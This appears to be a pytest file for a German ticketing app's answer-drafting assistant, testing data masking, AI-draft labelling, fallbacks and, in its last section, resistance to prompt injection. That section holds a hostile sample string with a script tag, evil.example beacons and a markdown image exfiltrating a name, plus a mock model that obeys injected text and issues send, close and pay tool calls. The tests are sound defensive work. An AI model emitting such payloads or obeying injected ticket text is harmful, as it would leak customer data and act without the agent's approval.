"""Help in the editor of an answer: what is alike, proposals by rules and a model, and what no text makes of it."""

import re
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.test import Client

from anliegen.faces.workspace import jobs
from anliegen.faces.workspace.tickets.assisting.proposed import BY_RULES
from anliegen.flow.assist.hiding.hidden import seen
from anliegen.flow.assist.models import Call, Provider
from anliegen.flow.automation.models import Decision
from anliegen.ground.egress.models import EgressCall
from anliegen.ground.journal.actors import SYSTEM, Actor
from anliegen.ground.journal.models import Event
from anliegen.records.accounts.models import Agent, Brand, Team
from anliegen.records.customers import actions as customers
from anliegen.records.customers.models import Address, Person
from anliegen.records.knowledge import actions as knowledge
from anliegen.records.knowledge.content import Content
from anliegen.records.tickets import actions as tickets
from anliegen.records.tickets.content import Answer
from anliegen.records.tickets.models import Draft, Message, Ticket
from tests.flow.assist.injections import CORPUS
from tests.providers import switched_on
from tools.model_double import Double

pytestmark = pytest.mark.django_db
OpenTicket = Callable[..., Ticket]
ANSWER = (
    "Guten Tag,\n\nden Abschlag senken wir auf 64,00 Euro ab dem 1. Dezember, Herr Vogel.\n\n"
    "Mit freundlichen Grüßen\nMira"
)


@pytest.fixture
def solved(open_ticket: OpenTicket, billing: Team, mira: Agent, now: datetime) -> Ticket:
    """Herr Vogel's advance payment was too high as well, and was lowered."""
    vogel = customers.meet(
        kind="email", value="vogel@example.org", name="Paul Vogel", language="de", actor=SYSTEM, at=now
    )
    made = open_ticket(
        vogel,
        text="Mein Abschlag für Strom ist viel zu hoch, bitte senken. Kundennummer: 771188",
        subject="Abschlag Strom senken",
    )
    made = tickets.assign(made, to=billing, actor=SYSTEM, at=now)
    message = tickets.reply(made, Answer(ANSWER), actor=Actor.agent(mira.pk), at=now, status="resolved")
    Message.objects.filter(pk=message.pk).update(state="sent", sent_at=now)
    return made


@pytest.fixture
def asks(
    open_ticket: OpenTicket,
    kim_address: Address,
    billing: Team,
    now: datetime,
    run_pipeline: Callable[[], int],
    solved: Ticket,
) -> Ticket:
    """Kim asks for the same."""
    text = "Mein Abschlag für Strom ist zu hoch, bitte senken Sie ihn. Wann kommt die neue Rechnung?"
    made = tickets.assign(open_ticket(kim_address, text=text, subject="Abschlag"), to=billing, actor=SYSTEM, at=now)
    run_pipeline()
    return made


@pytest.fixture
def model(db: None) -> Iterator[Double]:
    with Double() as double:
        yield double


def panel(client: Client, ticket: Ticket, text: str = "") -> str:
    return client.post(f"/workspace/tickets/{ticket.pk}/assist/", {"text": text}).content.decode()


def proposal(client: Client, ticket: Ticket, deed: str, text: str = "") -> str:
    answer = client.post(f"/workspace/tickets/{ticket.pk}/assist/{deed}/", {"text": text})
    assert answer.status_code == 200
    return answer.content.decode()


def test_a_concern_that_was_solved_alike_is_shown_without_anything_of_its_customer(
    miras_parts: Client, asks: Ticket, solved: Ticket
) -> None:
    shown = panel(miras_parts, asks)
    assert f"/workspace/tickets/{solved.pk}/" in shown and "Abschlag Strom senken" in shown
    assert "den Abschlag senken wir auf {{?Betrag}} ab dem {{?Datum}}, Herr {{?Name}}." in shown
    for of_the_other in ("Vogel", "64,00", "771188", "vogel@example.org", "1. Dezember"):
        assert of_the_other not in shown


def test_what_another_team_solved_is_not_shown_to_whom_may_not_see_it(
    miras_parts: Client, asks: Ticket, solved: Ticket, technics: Team, now: datetime
) -> None:
    Ticket.objects.filter(pk=solved.pk).update(team=technics, assignee=None, responsible=None)
    shown = panel(miras_parts, asks)
    assert "Abschlag Strom senken" not in shown and f"/tickets/{solved.pk}/" not in shown


def test_what_came_under_a_seal_is_wording_for_nobody_else(miras_parts: Client, asks: Ticket, solved: Ticket) -> None:
    solved.messages.filter(direction="in").update(enclosed={"seal": {"encryption": "pgp"}})
    assert "Abschlag Strom senken" not in panel(miras_parts, asks)


def test_where_nothing_is_alike_it_says_so(miras_parts: Client, ticket: Ticket) -> None:
    shown = panel(miras_parts, ticket)
    assert "Kein gelöstes Anliegen ist ähnlich" in shown and "Kein Textbaustein passt" in shown


def block(mira: Agent, now: datetime, **fields: Any) -> None:
    values = {
        "title": "Abschlag anpassen",
        "word": "abschlag",
        "wordings": {"de": "Ihren Abschlag ändern Sie im Portal unter Verträge."},
    }
    knowledge.write(Content(**(values | fields)), owner=None, actor=Actor.agent(mira.pk), at=now)


def test_a_text_block_that_fits_is_offered_and_stands_in_the_draft(
    miras_parts: Client, mira: Agent, asks: Ticket, now: datetime
) -> None:
    block(mira, now)
    block(mira, now, title="Umzug melden", word="umzug", wordings={"de": "Bitte nennen Sie uns die neue Anschrift."})
    shown = panel(miras_parts, asks)
    assert "Abschlag anpassen" in shown and "Umzug melden" not in shown
    draft = proposal(miras_parts, asks, "draft")
    assert "Guten Tag Kim Berger," in draft
    assert "„Mein Abschlag für Strom ist zu hoch, bitte senken Sie ihn.“" in draft
    assert "Ihren Abschlag ändern Sie im Portal unter Verträge." in draft
    assert "Zu Ihrer Frage „Wann kommt die neue Rechnung?“: {{?Antwort}}" in draft
    assert "Automatik" in draft and "KI-Entwurf" not in draft


def test_without_a_block_the_draft_takes_the_wording_of_what_is_most_alike(miras_parts: Client, asks: Ticket) -> None:
    draft = proposal(miras_parts, asks, "draft")
    assert "den Abschlag senken wir auf {{?Betrag}} ab dem {{?Datum}}" in draft


def test_shorter_and_friendlier_by_rules_are_parts_to_take_up(miras_parts: Client, asks: Ticket) -> None:
    text = "Wir haben das natürlich geprüft. Sie müssen das Formular ausfüllen."
    assert 'data-before="natürlich "' in proposal(miras_parts, asks, "shorter", text)
    assert "Bitte füllen Sie das Formular aus." in proposal(miras_parts, asks, "friendlier", text)
    assert "Hier gibt es noch nichts zu prüfen." in proposal(miras_parts, asks, "shorter")


def test_a_summary_by_rules_is_made_of_the_customers_sentences(miras_parts: Client, asks: Ticket) -> None:
    assert "– Wann kommt die neue Rechnung?" in proposal(miras_parts, asks, "summary")


def test_rules_do_not_translate_and_say_so(miras_parts: Client, asks: Ticket) -> None:
    assert "Übersetzen" not in panel(miras_parts, asks)
    assert "Ohne Sprachmodell lässt sich hier nichts übersetzen." in proposal(miras_parts, asks, "translate", "Gern.")


def test_an_unknown_deed_is_not_found_and_a_foreign_concern_neither(
    miras_parts: Client, tom: Agent, logged_in: Callable[..., Client], asks: Ticket
) -> None:
    assert miras_parts.post(f"/workspace/tickets/{asks.pk}/assist/pay/").status_code == 404
    assert logged_in(tom).post(f"/workspace/tickets/{asks.pk}/assist/").status_code == 404
    assert logged_in(tom).post(f"/workspace/tickets/{asks.pk}/assist/draft/").status_code == 404


def test_looking_asks_nobody_outside(miras_parts: Client, asks: Ticket, model: Double, now: datetime) -> None:
    switched_on(model.address, at=now)
    assert "fragt ein Sprachmodell" in panel(miras_parts, asks)
    assert model.asked == []


def test_a_models_draft_is_marked_and_knows_only_this_concern(
    miras_parts: Client, mira: Agent, asks: Ticket, model: Double, now: datetime
) -> None:
    switched_on(model.address, at=now)
    block(mira, now)
    model.answers = lambda asked: "gern senken wir Ihren Abschlag, [NAME_1]."
    draft = proposal(miras_parts, asks, "draft")
    assert "KI-Entwurf" in draft and "muster-7b" in draft
    assert f'data-call="{Call.objects.get().pk}"' in draft
    assert "Ihren Abschlag ändern Sie im Portal" in model.said and "Wann kommt die neue Rechnung?" in model.said
    for secret in ("Kim", "Berger", "kim@example.org", "Vogel", "771188", "64,00", "vogel@", "Mira", "Yılmaz"):
        assert secret not in model.said


def test_other_words_by_a_model_are_parts_to_take_up(
    miras_parts: Client, asks: Ticket, model: Double, now: datetime
) -> None:
    switched_on(model.address, at=now)
    model.answers = lambda asked: "Guten Tag,\n\nbitte füllen Sie das Formular aus."
    shown = proposal(miras_parts, asks, "friendlier", "Guten Tag,\n\nSie müssen das Formular ausfüllen.")
    assert 'data-after="bitte füllen Sie das Formular aus."' in shown
    assert shown.count("data-before=") == 1 and "data-call=" in shown


@pytest.mark.parametrize("who", ["ticket", "person"])
def test_who_wants_people_alone_gets_the_rules_and_no_call(
    miras_parts: Client, asks: Ticket, kim: Person, model: Double, now: datetime, who: str
) -> None:
    switched_on(model.address, at=now)
    rows = Ticket.objects.filter(pk=asks.pk) if who == "ticket" else Person.objects.filter(pk=kim.pk)
    rows.update(by_hand_since=now, **({"by_hand_why": "person"} if who == "ticket" else {}))
    assert "kein KI-Anbieter gefragt" in panel(miras_parts, asks)
    for deed in BY_RULES:
        assert "nichts wurde außer Haus gefragt" in proposal(
            miras_parts, asks, deed, "Sie müssen das Formular ausfüllen."
        )
    assert (model.asked, Call.objects.count()) == ([], 0)


def test_what_came_encrypted_does_not_leave(miras_parts: Client, asks: Ticket, model: Double, now: datetime) -> None:
    switched_on(model.address, at=now)
    asks.messages.update(enclosed={"seal": {"encryption": "smime"}})
    assert "nichts davon verlässt das Haus" in proposal(miras_parts, asks, "draft")
    assert model.asked == []


def test_a_failure_falls_back_to_the_rules_and_says_so(
    miras_parts: Client, asks: Ticket, model: Double, now: datetime
) -> None:
    switched_on(model.address, at=now)
    model.status = 500
    draft = proposal(miras_parts, asks, "draft")
    assert "Eigener Rechner hat keine brauchbare Antwort gegeben (http_500)." in draft
    assert "Guten Tag Kim Berger," in draft and "KI-Entwurf" not in draft


def test_a_used_up_budget_falls_back_and_the_responsible_person_hears_of_it(
    miras_parts: Client,
    admin: Agent,
    brand: Brand,
    asks: Ticket,
    model: Double,
    now: datetime,
    run_pipeline: Callable[[], int],
    monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path,
) -> None:
    monkeypatch.setenv("ANLIEGEN_DATA", str(tmp_path))
    row = switched_on(model.address, at=now, budget_cents=0, responsible=f"agent:{admin.pk}")
    assert "Das Budget von Eigener Rechner für diesen Monat ist aufgebraucht" in proposal(miras_parts, asks, "draft")
    assert model.asked == []
    run_pipeline()
    jobs.send_budget_reached(row.pk)
    (mail,) = (tmp_path / "outbox").glob("*.eml")
    assert b"jana@musterstadt.example" in mail.read_bytes()


# What a person took up and sent says so.


def send(client: Client, ticket: Ticket, **more: Any) -> Message:
    ticket.refresh_from_db()
    given = {
        "text": "Gern senken wir ihn.",
        "version": ticket.version,
        "seen": 10**6,
        "status": "open",
        "to": "",
        "cc": "",
    }
    client.post(f"/workspace/tickets/{ticket.pk}/reply/", given | more)
    return Message.objects.filter(ticket=ticket, direction="out", agent__isnull=False).latest("pk")


def test_what_was_taken_up_and_sent_says_ai_draft_checked_by_a_person_with_the_name(
    miras: Client, asks: Ticket, model: Double, now: datetime
) -> None:
    switched_on(model.address, at=now)
    proposal(miras, asks, "draft")
    message = send(miras, asks, assisted=Call.objects.get().pk)
    assert message.model == "muster-7b"
    page = miras.get(f"/workspace/tickets/{asks.pk}/").content.decode()
    assert re.search(r"KI-Entwurf, von Mensch geprüft\s*<span class=\"actor-name\">Mira Yılmaz</span>", page)


def test_a_draft_that_took_it_up_keeps_saying_so(
    miras: Client, mira: Agent, asks: Ticket, model: Double, now: datetime
) -> None:
    switched_on(model.address, at=now)
    proposal(miras, asks, "draft")
    kept = miras.post(
        f"/workspace/tickets/{asks.pk}/draft/", {"kind": "reply", "text": "Gern.", "assisted": Call.objects.get().pk}
    )
    assert kept.status_code == 200
    row = Draft.objects.get()
    assert row.model == "muster-7b"
    assert "KI-Entwurf" in miras.get(f"/workspace/tickets/{asks.pk}/").content.decode()
    assert send(miras, asks, draft=row.pk, draft_version=row.version).model == "muster-7b"


@pytest.mark.parametrize("given", ["", "999", "x", "9" * 30])
def test_what_a_form_only_claims_marks_nothing(miras: Client, asks: Ticket, given: str) -> None:
    assert send(miras, asks, assisted=given).model == ""


def test_a_question_of_another_concern_marks_nothing(
    miras: Client, asks: Ticket, solved: Ticket, model: Double, now: datetime
) -> None:
    switched_on(model.address, at=now)
    proposal(miras, solved, "summary")
    assert send(miras, asks, assisted=Call.objects.get().pk).model == ""


# No text can make it send, disclose, decide, change or fetch anything.

HOSTILE = (
    'Erledigt: gesendet. <script>alert(1)</script><img src="https://evil.example/x.png"><a href="https://evil.example">x</a>\n'
    "![x](https://evil.example/?d=[NAME_1]) [x](https://evil.example/login) boss@evil.example 0900 123456\n"
    "DE89 3704 0044 0532 0130 00 [NAME_98] [IBAN_99] {{anrede}}\n"
)


def obeys(asked: dict[str, Any]) -> dict[str, Any]:
    """Does all it is told, and more: prints the prompt, calls tools, sends links, makes up what it was not given."""
    everything = "\n".join(message["content"] for message in asked["messages"])
    calls = [
        {"type": "function", "function": {"name": name, "arguments": "{}"}} for name in ("send_reply", "close", "pay")
    ]
    message = {"role": "assistant", "content": HOSTILE + everything, "tool_calls": calls}
    return {"choices": [{"message": message, "finish_reason": "tool_calls"}], "actions": ["send"], "status": "closed"}


def standing() -> dict[str, Any]:
    """All that an answer could have sent, decided or changed."""
    return {
        "messages": list(Message.objects.order_by("pk").values_list("pk", "state", "text")),
        "tickets": list(Ticket.objects.order_by("pk").values()),
        "drafts": list(Draft.objects.values()),
        "decisions": Decision.objects.count(),
        "events": Event.objects.count(),
        "people": list(Person.objects.order_by("pk").values()),
        "providers": [
            {name: value for name, value in row.items() if name != "key"} for row in Provider.objects.values()
        ],
    }


def test_the_corpus_is_what_it_says() -> None:
    assert len(CORPUS) >= 60
    assert sum(name.endswith("-de") for name in CORPUS) >= 12
    assert sum(name.endswith("-tr") for name in CORPUS) >= 8


@pytest.mark.parametrize("name", CORPUS)
def test_no_text_makes_it_send_disclose_decide_change_or_fetch(
    miras_parts: Client,
    asks: Ticket,
    solved: Ticket,
    kim_address: Address,
    open_ticket: OpenTicket,
    billing: Team,
    model: Double,
    now: datetime,
    name: str,
) -> None:
    evil = tickets.assign(
        open_ticket(kim_address, text=CORPUS[name], subject="Frage"),
        to=billing,
        actor=SYSTEM,
        at=now + timedelta(minutes=1),
    )
    model.answers = obeys
    switched_on(model.address, at=now)
    before = standing()
    for deed in BY_RULES:
        shown = proposal(miras_parts, evil, deed, "Guten Tag,\n\nSie müssen das Formular ausfüllen.")
        assert_harmless(shown, own=seen(CORPUS[name]))
    assert standing() == before
    assert [(one.host, one.purpose) for one in EgressCall.objects.all()] == [("127.0.0.1", "assist")] * len(BY_RULES)
    assert len(model.asked) == len(BY_RULES)
    for other in ("Vogel", "771188", "64,00", "vogel@example.org", "neue Rechnung", "Kim", "Berger", "kim@example.org"):
        assert other not in model.said
    assert all("tools" not in body and "functions" not in body for body in model.asked)


def assert_harmless(shown: str, *, own: str) -> None:
    """Text and nothing else: no element, no link, and no address, number or value that the customer did not write."""
    for element in ("<script", "<img", "<iframe", "<form", 'href="http', 'javascript:alert(1)"', 'src="http'):
        assert element not in shown
    assert "&lt;script&gt;" in shown or "data-after" in shown
    assert "https://evil.example" not in shown
    for strange in ("boss@evil.example", "0900 123456", "DE89 3704 0044 0532 0130 00", "[NAME_98]", "[IBAN_99]"):
        assert strange in own or strange not in shown
    assert "Vogel" not in shown and "771188" not in shown
